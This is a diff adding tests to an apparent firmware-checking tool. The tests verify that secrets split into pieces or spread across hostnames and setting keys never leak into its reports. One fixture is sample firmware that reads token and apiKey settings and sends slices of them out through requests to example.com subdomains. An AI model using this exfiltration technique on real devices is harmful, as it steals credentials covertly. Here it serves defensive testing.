@@ -104,13 +104,77 @@ describe("a document on firmware that tells its secrets in pieces", () => {
   });
 });
 
+describe("names that are made of a secret", () => {
+  it("are shown in no report, where only one world has them, and as keys of settings", async () => {
+    const folder = tempProject({
+      "main.ts": `import { readSetting, writeSetting } from "@devicescript/settings";
+import { delay } from "@devicescript/core";
+import { fetch } from "@devicescript/net";
+const token = await readSetting("token", "");
+const apiKey = await readSetting("apiKey", "");
+await readSetting("u." + token.slice(0, 7), "");
+await writeSetting("w" + apiKey.slice(7, 14), "x");
+let spread = "";
+for (let at = 0; at < apiKey.length; at++) spread += apiKey[at] + "---";
+await delay(5000);
+const reply = await fetch("http://" + token.slice(0, 7) + ".example.com/");
+await reply.close();
+if (apiKey.charCodeAt(0) < 91) {
+  const more = await fetch("http://" + spread + "x.example.com/b");
+  await more.close();
+}
+`,
+    });
+    const shown = await shownOf(join(folder, "main.ts"));
+    expect(shown.peers.length).toBeGreaterThan(0);
+    for (const { value } of shown.secrets)
+      for (let at = 0; at + 5 <= value.length; at++)
+        expect(shown.text.includes(squeezed(value.slice(at, at + 5)))).toBe(false);
+  });
+
+  it("are hidden of a secret that the device drew itself as well", async () => {
+    const folder = tempProject({
+      "main.ts": `import { readSetting, writeSetting } from "@devicescript/settings";
+let key = await readSetting("token", "");
+if (key === "") {
+  for (let at = 0; at < 24; at++) key += String.fromCharCode(97 + Math.floor(Math.random() * 26));
+  await writeSetting("token", key);
+}
+let spaced = "";
+for (let at = 0; at < key.length; at++) spaced += key[at] + " - ";
+console.log("made " + key + " " + spaced);
+`,
+    });
+    const { contents } = await shownOf(join(folder, "main.ts"));
+    const made = contents.filter((content) => content.startsWith("> made ‹settings.token, 24 bytes"));
+    expect(made.length).toBeGreaterThan(0);
+    for (const content of made) expect(content).not.toMatch(/(?:[a-z] - ){3}/);
+  });
+});
+
+/** Everything that reports say of a firmware, letters and digits alone. */
+async function shownOf(entry: string) {
+  const appliance = applianceAt(entry);
+  const request = { ...AS_DECLARED, virtualMicros: 9_000_000, evidence: true, explore: 0 };
+  const shown = checkAppliance(appliance, await loadPolicy(appliance), request).report;
+  if (shown.kind !== "firmware") throw new Error(shown.message);
+  const formats = (["html", "json", "md", "sarif"] as const).map((format) => rendered(format, [shown]));
+  const { secrets } = await observed(entry);
+  return {
+    text: squeezed([JSON.stringify(documentOf([shown])), ...formats].join("\n")),
+    secrets: secrets.filter(({ name }) => name.startsWith("settings.")),
+    peers: shown.verdict.findings.flatMap(({ to }) => (to?.includes("example.com") ? [to] : [])),
+    contents: shown.verdict.findings.flatMap(({ evidence }) => evidence?.content ?? []),
+  };
+}
+
 describe("bytes that change", () => {
   it("are ranges where both are as long, else all but a shared beginning and end", () => {
     expect(changedBytes(toBytes("a=1&long=shared&b=22"), toBytes("a=3&long=shared&b=44"))).toEqual([
       { start: 2, end: 3 },
       { start: 18, end: 20 },
     ]);
-    expect(changedBytes(toBytes("a=1&b"), toBytes("a=234&b"))).toEqual([{ start: 2, end: 3 }]);
+    expect(changedBytes(toBytes("a=1&b"), toBytes("a=234&b"))).toEqual([{ start: 2, end: 3, isRough: true }]);
     expect(changedBytes(toBytes("same"), toBytes("same"))).toEqual([]);
   });
 
